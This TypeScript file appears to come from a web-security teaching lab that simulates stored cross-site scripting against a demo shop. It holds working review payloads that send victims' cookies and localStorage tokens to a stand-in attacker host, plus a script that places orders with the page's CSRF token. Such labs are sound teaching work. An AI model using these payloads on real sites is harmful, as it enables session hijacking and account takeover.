import type { Attack } from './attack.ts';
import { all, cookieWith, protectionWith, shopWith } from './change-settings.ts';
import { done, evil, shop, type Stage } from './stage.ts';

const product = `${shop}/products/salt-bread`;
const rawReviews = protectionWith({ escapeReviews: false });

/** What Mallory writes as her review: it is run in the page of everybody who looks at the product. */
function review(script: string): string {
  return `Lovely!<script>(async()=>{${script};console.log('${done}')})()</script>`;
}

const send = (what: string): string =>
  `await fetch('${evil}/collect',{method:'POST',mode:'no-cors',body:${what}})`;

const sendCookie = review(send('document.cookie'));

const sendTokens = review(
  send(
    `JSON.stringify(['access_token','refresh_token','signed_in'].map(k=>[k,localStorage.getItem(k)]))`,
  ),
);

/** With whatever token the page's own forms carry: script reads it like the rest of the page. */
const orderSomething = review(
  `const t=document.querySelector('[name=csrf_token]'),` +
    `post=(p,o)=>fetch(p,{method:'POST',body:new URLSearchParams({...o,...t&&{csrf_token:t.value}})});` +
    `await post('/cart',{product:'baguette'});await post('/orders',{})`,
);

async function lure(stage: Stage, text: string): Promise<void> {
  await stage.as('mallory').writeReview(text);
  await stage.as('alice').signIn();
  stage.decisive();
  await stage.visit(product);
  await stage.scriptEnds();
}

/** Script in a review sends the cookie away, and Mallory puts it into her own browser. */
export const xssCookie: Attack = {
  id: 'xss-cookie',
  hole: all(rawReviews, cookieWith({ httpOnly: false })),
  needsScript: true,
  play: async (stage) => {
    await lure(stage, sendCookie);
    const stolen = stage.lab.loot.at(-1)?.content ?? '';
    if (stolen === '') return null;
    const cookies = stolen.split('; ').map((pair): [string, string] => {
      const equals = pair.indexOf('=');
      return [pair.slice(0, equals), pair.slice(equals + 1)];
    });
    await stage.as('mallory').putCookies(cookies);
    return stage.openAccount();
  },
};

/** The same with tokens, which script has to be able to read where script keeps them. */
export const xssTokens: Attack = {
  id: 'xss-tokens',
  hole: all(
    rawReviews,
    shopWith({
      remember: 'access-refresh',
      accessTokenIn: 'local-storage',
      refreshTokenIn: 'local-storage',
    }),
  ),
  needsScript: true,
  play: async (stage) => {
    await lure(stage, sendTokens);
    const stolen = stage.lab.loot.at(-1)?.content ?? '[]';
    const entries = (JSON.parse(stolen) as readonly (readonly [string, string | null])[]).flatMap(
      ([key, value]) => (value === null ? [] : [[key, value] as const]),
    );
    if (entries.length === 0) return null;
    stage.as('mallory').putLocalStorage(entries);
    return stage.openAccount();
  },
};

/** No key is stolen: the script does what it wants where Alice is signed in. */
export const xssOrder: Attack = {
  id: 'xss-order',
  hole: rawReviews,
  needsScript: true,
  play: async (stage) => {
    await lure(stage, orderSomething);
    return stage.orderOf('alice');
  },
};
